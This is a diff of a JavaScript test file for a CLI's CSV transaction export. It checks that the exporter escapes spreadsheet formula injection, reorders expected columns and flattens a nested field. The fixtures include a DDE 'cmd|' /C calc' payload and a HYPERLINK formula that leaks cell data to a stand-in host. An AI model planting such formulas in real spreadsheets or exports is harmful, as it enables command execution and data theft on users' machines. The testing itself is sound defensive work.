@@ -25,13 +25,14 @@ const TRANSACTIONS = {
     { ...transaction('txn_5', TAB, { debit: 5 }), '=cmd|x': '-x' },
   ],
 };
+/** The documented fields first, in their documented order (contract §3): credit before balance. */
 const EXPECTED_TRANSACTIONS = [
-  "id,date,description,debit,balance,category,credit,'=cmd|x",
-  `txn_1,2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",-12.5,-300,other,,`,
-  "txn_2,2026-03-25,'-2+3+cmd|' /C calc'!A0,,-1e3,other,-12.5,",
-  `txn_3,2026-03-25,"'+SUM(1,2)",5,,other,,`,
-  "txn_4,2026-03-25,'@SUM(A1:A9),5,,other,,",
-  "txn_5,2026-03-25,'\t=1+1,5,,other,,'-x",
+  "id,date,description,debit,credit,balance,category,'=cmd|x",
+  `txn_1,2026-03-25,"'=HYPERLINK(""http://x.test/?""&A1,""Refund"")",-12.5,,-300,other,`,
+  "txn_2,2026-03-25,'-2+3+cmd|' /C calc'!A0,,-12.5,-1e3,other,",
+  `txn_3,2026-03-25,"'+SUM(1,2)",5,,,other,`,
+  "txn_4,2026-03-25,'@SUM(A1:A9),5,,,other,",
+  "txn_5,2026-03-25,'\t=1+1,5,,,other,'-x",
   '',
 ].join('\r\n');
 
@@ -92,7 +93,7 @@ describe.each(MODES)('numbers as received, for $mode: every digit kept, and a pl
   it('-o csv', async () => {
     const result = await svc(['reports', 'transactions', ID, '-o', 'csv'], { tty, service: service() });
     expect(result.code, result.stderr).toBe(0);
-    expect(result.stdout).toBe('id,date,description,debit,balance,ref,split\r\ntxn_1,2026-03-25,REFUND,125000.50,-1e400,12345678901234567890,"{""a"":-0.10}"\r\n');
+    expect(result.stdout).toBe('id,date,description,debit,balance,ref,split.a\r\ntxn_1,2026-03-25,REFUND,125000.50,-1e400,12345678901234567890,-0.10\r\n');
   });
 
   it('-o ndjson', async () => {
